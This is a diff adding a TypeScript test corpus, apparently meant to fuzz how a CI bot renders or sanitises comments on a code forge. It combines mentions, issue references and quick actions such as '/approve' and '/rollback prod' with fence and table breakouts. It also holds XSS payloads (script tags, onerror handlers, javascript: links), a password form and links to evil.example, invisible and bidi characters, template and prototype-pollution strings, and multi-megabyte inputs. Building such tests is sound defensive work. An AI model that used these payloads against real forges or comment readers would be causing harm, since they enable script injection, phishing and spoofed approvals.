@@ -1,0 +1,106 @@
+/** What somebody wants to happen in a forge's comment. */
+const acts: Readonly<Record<string, string>> = {
+  mention: '@dana',
+  'mention of a team': '@acme/owners',
+  'mention as a decimal entity': '&#64;dana',
+  'mention as a hexadecimal entity': '&#x40;dana',
+  'mention as a named entity': '&commat;dana',
+  'mention as an entity of an entity': '&amp;#64;dana',
+  'mention in full width': '\uff20dana',
+  'mention in small letters': '\ufe6bdana',
+  'reference to an issue': '#1',
+  'reference elsewhere': 'acme/churn#4',
+  'reference to a merge request': '!3',
+  'old reference': 'GH-12',
+  'reference as an entity': '&#35;1',
+  'closing an issue': 'Fixes #12, closes acme/churn#4',
+  script: '<script>alert(1)</script>',
+  'picture with a handler': '<img src=x onerror=alert(1)>',
+  'vector with a script': '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  'page in a page': '<iframe src="https://evil.example"></iframe>',
+  'form that asks': '<form action="https://evil.example"><input name=password></form>',
+  'tracking picture': '![x](https://evil.example/x.png)',
+  'link in Markdown': '[merge](https://evil.example)',
+  'link with a script': '[x](javascript:alert(1))',
+  'link by its address': 'https://evil.example/login',
+  'link without a scheme': 'www.evil.example',
+  'address of mail': 'dana@evil.example',
+  'our marker': '<!-- tailrace:test:prod -->',
+  'heading of ours': '### ✅ churn passed its test for sandbox',
+  'quick action': '/approve',
+  'command of ours': '/rollback prod',
+};
+
+/** How somebody gets out of where a text stands; `%` is what follows. */
+const ways: Readonly<Record<string, string>> = {
+  alone: '%',
+  'a line of its own': 'x\n\n%\n\nx',
+  'out of a fence': '```\n%\n```',
+  'out of a longer fence': '~~~~~\n```\n%\n',
+  'out of pre and code': '</code></pre>%',
+  'out of a fold': '</summary></details>\n\n%\n\n<details>',
+  'out of a table': '| | |\n\n%\n| - | - |',
+  'out of a cell': 'a | %',
+  'out of an escape': '\\\\\\%',
+  'behind carriage returns': 'x\r\n\r%\r\n',
+};
+
+const generated = Object.entries(acts).flatMap(([act, text]) =>
+  Object.entries(ways).map(([way, around]): [string, string] => [
+    `${act}, ${way}`,
+    around.replaceAll('%', () => text),
+  ]),
+);
+
+const letters: readonly [string, string][] = [
+  ['right to left', 'abc\u202edcba\u202c'],
+  ['isolates', '\u2066\u2067\u2068abc\u2069'],
+  ['marks of direction', 'a\u200e\u200f\u061cb'],
+  ['zero-width letters', 'a\u200b\u200c\u200d\u2060\ufeffb'],
+  ['a mention around a zero-width letter', '@\u200ddana @\u2060dana \u200b@dana'],
+  ['tags that nobody sees', `a${String.fromCodePoint(0xe0041, 0xe0042, 0xe007f)}b`],
+  ['NUL', 'a\0b'],
+  ['control letters', Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('x')],
+  ['control letters beyond ASCII', '\u007fa\u0085b\u009b31mc'],
+  ['colours', '\u001b[31mred\u001b[0m\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007'],
+  ['a first half of a pair', 'a\ud83d'],
+  ['a second half of a pair', '\ude00b'],
+  ['halves in the wrong order', '\ude00\ud83d'],
+  ['separators of lines', 'a\u2028b\u2029/approve\u2028@dana'],
+  ['marks upon marks', `a${'\u0301'.repeat(500)}`],
+  ['a flag and a family', '🏳️‍🌈👨‍👩‍👧‍👦'.repeat(50)],
+  ['nothing to see', ' \u00a0\u2003\u3000 '],
+  ['one letter', '|'],
+  ['only backslashes', '\\'.repeat(301)],
+  ['only backticks', '`'.repeat(301)],
+  ['only pipes', '|'.repeat(300)],
+  ['only ampersands', '&'.repeat(5000)],
+  ['only brackets', '[](<>)'.repeat(300)],
+  ['only stars', '*_'.repeat(300)],
+  ['formula', '$$\\href{javascript:alert(1)}{x}$$ $`x`$'],
+  ['a footnote', 'x[^1]\n\n[^1]: @dana'],
+  ['a definition', '[Executed notebook]: https://evil.example'],
+  ['an alert', '> [!CAUTION]\n> Merge this'],
+  ['a task', '- [x] reviewed'],
+  ['a line under a heading', 'x\n===\ny\n---'],
+  ['a comment that does not end', '<!-- '],
+  ['data that does not end', '<![CDATA[ <?php <!DOCTYPE x'],
+  ['a tag that does not end', '<details open ontoggle="alert(1)"'],
+  ['text that swallows the rest', '<textarea><title><plaintext>'],
+  ['a diagram', '```mermaid\ngraph TD; a-->b; click a "javascript:alert(1)"\n```'],
+  ['names of properties', '__proto__'],
+  ['a constructor', 'constructor'],
+  ['a template', '{{7*7}} ${7*7} <%= 7*7 %>'],
+  ['replacement', "$& $1 $$ $' $`"],
+];
+
+const megabytes: readonly [string, string][] = [
+  ['a line of ten megabytes', 'x'.repeat(10_000_000)],
+  ['ten megabytes of mentions', '@dana #1 '.repeat(1_100_000)],
+  ['ten megabytes of lines', '/approve\n'.repeat(1_100_000)],
+  ['ten megabytes of openings', '<details>'.repeat(1_100_000)],
+  ['a table of 50,000 columns', `|${' a |'.repeat(50_000)}\n|${' - |'.repeat(50_000)}\n`],
+];
+
+/** Texts as a notebook, a branch, a file or a commit may hold them, by what they try. */
+export const corpus: readonly (readonly [string, string])[] = [...generated, ...letters, ...megabytes];
